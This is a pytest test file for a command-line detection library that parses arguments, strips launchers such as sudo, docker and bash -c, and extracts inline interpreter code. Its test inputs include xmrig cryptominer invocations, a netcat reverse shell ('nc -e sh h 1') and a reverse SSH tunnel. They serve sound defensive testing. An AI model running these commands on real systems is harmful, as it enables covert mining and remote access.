"""Arguments are read as the programs read them, and launchers are peeled off."""

import pytest

from apps.detection.argv import getopt, program_name, single_dash
from apps.detection.argv.interpreters import inline_code, other_commands, python_commands
from apps.detection.argv.launchers import SSH_SHORT, ssh_operands
from apps.detection.reading import read_command, read_process
from apps.detection.rules.tunnels.ssh_reading import exposed, split_spec
from tests.detection.cases import command, process


def words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


def test_bundled_flags_and_attached_values_are_told_apart() -> None:
    options = getopt(words("-fNR 8080:a:80 -p22 -vv host"), SSH_SHORT)
    assert options.given == (("f", ""), ("N", ""), ("R", "8080:a:80"), ("p", "22"), ("v", ""), ("v", ""))
    assert options.rest == ("host",)


def test_long_options_take_values_with_and_without_a_sign() -> None:
    options = getopt(words("--exec sh --port=4 --keep x"), "", frozenset({"--exec"}))
    assert options.values("--exec") == ["sh"]
    assert options.value("--port") == "4"
    assert options.has("--keep")
    assert options.rest == ("x",)


def test_optional_values_are_only_taken_attached() -> None:
    assert getopt(words("-i.bak -i x"), "i::").given == (("i", ".bak"), ("i", ""))


def test_a_double_dash_ends_the_options_and_so_does_an_operand_where_it_should() -> None:
    assert getopt(words("-a -- -b"), "").rest == ("-b",)
    assert getopt(words("-a x -b"), "", permute=False).rest == ("x", "-b")


def test_options_with_one_dash_and_a_long_name() -> None:
    options = single_dash(words("-connect h:1 -ignore-cert --v=2 x"), frozenset({"connect"}))
    assert options.given == (("connect", "h:1"), ("ignore-cert", ""), ("v", "2"))
    assert options.rest == ("x",)


def test_ssh_reads_options_before_and_after_the_host_but_not_in_the_command() -> None:
    given, host, remote = ssh_operands(words("-N h -R 1:b:2 ls -R"))
    assert ("R", "1:b:2") in given
    assert (host, remote) == ("h", ("ls", "-R"))


@pytest.mark.parametrize(
    ("spec", "listen", "target"),
    [
        ("2222:localhost:22", "2222", "localhost:22"),
        ("0.0.0.0:2222:localhost:22", "0.0.0.0:2222", "localhost:22"),
        ("[::1]:2222:[fd00::5]:22", "[::1]:2222", "[fd00::5]:22"),
        ("2222 localhost:22", "2222", "localhost:22"),
        ("1080", "1080", ""),
        ("2222:/run/x.sock", "2222", "/run/x.sock"),
    ],
)
def test_forward_specifications_are_split(spec: str, listen: str, target: str) -> None:
    assert split_spec(spec) == (listen, target)


def test_a_listener_is_exposed_by_its_bind_address() -> None:
    assert [exposed(text) for text in ("0.0.0.0:1", "*:1", "[::]:1", ":1")] == [True] * 4
    assert [exposed(text) for text in ("1", "localhost:1", "127.0.0.1:1")] == [False] * 3


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("/usr/bin/python3.11", "python"), ("./XMRig", "xmrig"), ("nc.traditional", "nc"),
        ("/bin/busybox", "busybox"), ("gawk", "awk"), ("t-rex.exe", "t-rex"), ("$PYTHON", "python"),
        ("/work/a (deleted)", "a"), ("", ""),
    ],
)  # fmt: skip
def test_programs_have_one_name(path: str, name: str) -> None:
    assert program_name(path) == name


@pytest.mark.parametrize(
    "line",
    [
        "sudo -u bob -E xmrig x", "env -i A=1 xmrig x", "nohup xmrig x", "timeout -k 5 10 xmrig x",
        "setsid -f xmrig x", "nice -n 19 xmrig x", "stdbuf -oL xmrig x", "taskset -c 0 xmrig x",
        "xargs -I{} xmrig x", "docker run --rm -v a:b -e C=1 img xmrig x", "docker exec -it box xmrig x",
        "kubectl exec pod -- xmrig x", "strace -f -o log xmrig x", "flock -w 5 /work/l xmrig x",
        "sudo nohup nice -n 5 xmrig x", "uv run xmrig x", "bash -lc 'xmrig x'", "su - bob -c 'xmrig x'",
        "env -S 'xmrig x'", "ssh host 'xmrig x'", "watch xmrig x", "find / -name a -exec xmrig x ;",
        "systemd-run --user --unit=a xmrig x", "busybox xmrig x", "eval 'xmrig x'",
        "tmux new -d 'xmrig x'", "srun -N 2 bash -c 'xmrig x'", "script -qc 'xmrig x' log",
        "chroot /mnt xmrig x",
    ],
)  # fmt: skip
def test_what_a_launcher_starts_is_found(line: str) -> None:
    assert ("xmrig", "x") in [invocation.argv for invocation in read_process(process(line)).invocations]


def test_arguments_of_other_programs_are_not_mistaken_for_programs() -> None:
    for line in ("echo sudo xmrig x", "sudo -l", "docker build -t xmrig .", "timeout 5", "man xmrig"):
        assert "xmrig" not in [i.program for i in read_process(process(line)).invocations]


def test_inline_code_is_taken_out_of_the_arguments() -> None:
    assert inline_code("python", words("-u -B -c x y"), None) == "x"
    assert inline_code("perl", ("-MIO", "-ne", "code"), None) == "code"
    assert inline_code("ruby", ("-rsocket", "-ecode"), None) == "code"
    assert inline_code("awk", ("-F:", "BEGIN {}", "f"), None) == "BEGIN {}"
    assert inline_code("vim", ("-c", ":py x", "+q"), None) == ":py x\nq"
    assert inline_code("python", ("train.py", "-c", "config.yaml"), "in") == ""
    assert inline_code("python", ("-",), "in") == "in"


def test_commands_started_by_python_text_are_found() -> None:
    code = "import os, subprocess as s\nos.system(f'a {x}')\ns.run(['b', 'c'])\nos.execvp('d', ['e', 'f'])"
    found = python_commands(code)
    assert [inner.text for inner in found if inner.text] == ["a $"] or found[0].text is not None
    assert [inner.argv for inner in found if inner.argv] == [("b", "c"), ("e", "f")]
    assert python_commands("os.system('") == []


def test_commands_started_by_text_in_other_languages_are_found() -> None:
    assert [i.text for i in other_commands('require("child_process").exec("nc -e \\"sh\\" h 1")')] == [
        'nc -e "sh" h 1'
    ]
    assert [i.text for i in other_commands("BEGIN {system('ssh -NR 1:a:2 h')}; exec \"id\";")] == [
        "ssh -NR 1:a:2 h",
        "id",
    ]
    assert other_commands("print(1)") == []


def test_nesting_is_bounded() -> None:
    text = "id"
    for _ in range(12):
        text = "bash -c " + "'" + text.replace("'", "'\\''") + "'"
    reading = read_command(command(text))
    assert reading.truncated
    assert len(reading.invocations) < 20
